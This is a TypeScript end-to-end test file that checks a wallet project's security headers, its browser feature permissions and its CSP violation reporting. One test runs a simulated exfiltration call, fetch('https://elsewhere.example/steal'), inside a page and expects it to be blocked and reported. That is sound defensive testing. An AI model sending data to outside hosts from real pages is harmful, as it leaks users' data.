import { once } from 'node:events'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { extname, join } from 'node:path'
import { securityHeaders as docsHeaders } from '../../docs/headers.ts'
import { withheldFeatures } from '../../packages/site/src/headers.ts'
import { serveDocs } from '../../scripts/stack/serveDocs.ts'
import { root } from '../../scripts/stack/settings.ts'
import { freePorts } from '../support/freePorts.ts'
import type { Stack } from '../support/stack.ts'
import { expect, test } from '../support/test.ts'
import { openWalletHost } from '../support/walletHost.ts'

type HeadersOf = (
  config: unknown,
  path: string,
  hashes?: unknown,
) => Record<string, string>

const urlsOf = (stack: Stack) =>
  [
    ['wallet', stack.walletUrl],
    ['sample-app', stack.sampleAppUrl],
    ['waypoint', stack.waypointUrl],
    ['phone', stack.phoneUrl],
  ] as const

/** Every page of a build, one file of each other kind, and a page without a file. */
async function pathsOf(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true })
  const files = entries
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(dir.length))
    .filter((path) => !path.includes('/.') && !path.endsWith('.br'))
  const kinds = new Map(files.map((path) => [extname(path), path]))
  const pages = files.filter((path) => path.endsWith('.html'))
  return [...new Set(['/', '/home', ...pages, ...kinds.values()])]
}

async function expectHeaders(
  url: string,
  paths: readonly string[],
  headersOf: (path: string) => Record<string, string>,
) {
  for (const path of paths) {
    const { headers } = await fetch(`${url}${path}`)
    const expected = headersOf(path)
    const found = Object.fromEntries(
      Object.keys(expected).map((name) => [name, headers.get(name)]),
    )
    expect(found, `${url}${path}`).toEqual(expected)
    expect(expected['Content-Security-Policy']).toContain("default-src 'none'")
  }
}

test('each site sends its headers with every page and every kind of file', async ({
  stack,
}) => {
  for (const [app, url] of urlsOf(stack)) {
    const { securityHeaders } = (await import(
      join(root, `apps/${app}/headers.ts`)
    )) as { securityHeaders: HeadersOf }
    const dir = join(root, `apps/${app}/dist`)
    const config: unknown = await (await fetch(`${url}/config.json`)).json()
    const hashes: unknown = await readFile(
      join(dir, '.vite/integrity.json'),
      'utf8',
    ).then(JSON.parse, () => undefined)
    const paths = await pathsOf(dir)
    expect(paths.length, app).toBeGreaterThan(3)
    await expectHeaders(url, paths, (path) =>
      securityHeaders(config, path, hashes),
    )
  }
  const [port = 0] = await freePorts(1)
  const dir = await mkdtemp(join(tmpdir(), 'strongroom-docs-'))
  await writeFile(join(dir, 'index.html'), '<h1>Documentation</h1>')
  const docs = await serveDocs({ port, hosts: ['127.0.0.1'], dir })
  const paths = ['/', '/index.html', '/storybook/', '/no-such-page']
  await expectHeaders(`http://127.0.0.1:${port}`, paths, docsHeaders)
  await docs.close()
  await rm(dir, { recursive: true })
})

test('pages may use no feature of the browser but the ones that they need', async ({
  stack,
  personOf,
}) => {
  const { page } = await personOf('Alice')
  const local = ['local-network', 'local-network-access', 'loopback-network']
  const own = ['clipboard-write', 'fullscreen']
  for (const [url, allowed] of [
    [
      stack.walletUrl,
      // The picture of a camera plays in the page.
      [
        ...own,
        ...local,
        'autoplay',
        'camera',
        'media-playback-while-not-visible',
      ],
    ],
    [stack.waypointUrl, [...own, ...local]],
    [stack.sampleAppUrl, own],
  ] as const) {
    await page.goto(url)
    const features = await page.evaluate(() => {
      const { featurePolicy } = document as unknown as {
        featurePolicy: { allowedFeatures(): string[]; features(): string[] }
      }
      const known = featurePolicy.features()
      return { known, allowed: featurePolicy.allowedFeatures() }
    })
    // Client hints tell of the browser, and pages of other sites get none.
    const isHint = (name: string) => name.startsWith('ch-')
    expect(features.known.length).toBeGreaterThan(30)
    expect(
      features.allowed.filter((name) => !isHint(name)).sort(),
      url,
    ).toEqual(allowed.filter((name) => features.known.includes(name)).sort())
    expect([...withheldFeatures]).toEqual(
      expect.arrayContaining(
        features.known.filter((name) => !isHint(name) && !own.includes(name)),
      ),
    )
  }
})

test('a browser reports a blocked request to the endpoint of the deployment', async ({
  browser,
}) => {
  const reports: { type: string | undefined; body: string }[] = []
  const endpoint = createServer(async (request, response) => {
    const chunks = await request.toArray()
    const type = request.headers['content-type']
    reports.push({ type, body: Buffer.concat(chunks).toString() })
    response.writeHead(204).end()
  })
  endpoint.listen(0, '127.0.0.1')
  await once(endpoint, 'listening')
  const { port } = endpoint.address() as { port: number }
  const host = await openWalletHost({
    gatewayUrl: 'http://127.0.0.1:9',
    reportUrl: `http://127.0.0.1:${port}/reports`,
  })
  // A browser that knows `report-to` collects reports for a minute, and Chromium without
  // windows sends none. Others ignore it, as this one does without it.
  host.served.changeHeaders = (headers) => ({
    ...headers,
    'Content-Security-Policy': `${headers['Content-Security-Policy']}`.replace(
      '; report-to own',
      '',
    ),
  })
  await host.publish()
  const page = await browser.newPage()
  try {
    await page.goto(`${host.url}/accounts`)
    const sent = page.evaluate(() =>
      fetch('https://elsewhere.example/steal').then(
        () => 'sent',
        () => 'blocked',
      ),
    )
    expect(await sent).toBe('blocked')
    const stolen = () =>
      reports.filter(({ body }) => body.includes('elsewhere.example'))
    await expect.poll(() => stolen().length, { timeout: 60_000 }).toBe(1)
    expect(stolen()[0]?.type).toBe('application/csp-report')
    expect(JSON.parse(`${stolen()[0]?.body}`)['csp-report']).toMatchObject({
      'document-uri': expect.stringContaining(host.url),
      'effective-directive': 'connect-src',
    })
  } finally {
    await page.close()
    await host.close()
    endpoint.close()
  }
})
